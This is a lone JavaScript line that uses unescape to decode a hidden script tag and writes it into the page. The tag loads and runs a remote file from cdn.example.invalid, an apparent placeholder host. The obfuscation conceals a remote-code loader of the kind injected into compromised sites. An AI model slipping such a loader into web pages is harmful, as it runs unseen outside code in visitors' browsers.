document.write(unescape('%3Cscript%20src%3D%22http%3A//cdn.example.invalid/x.js%22%3E%3C/script%3E'));
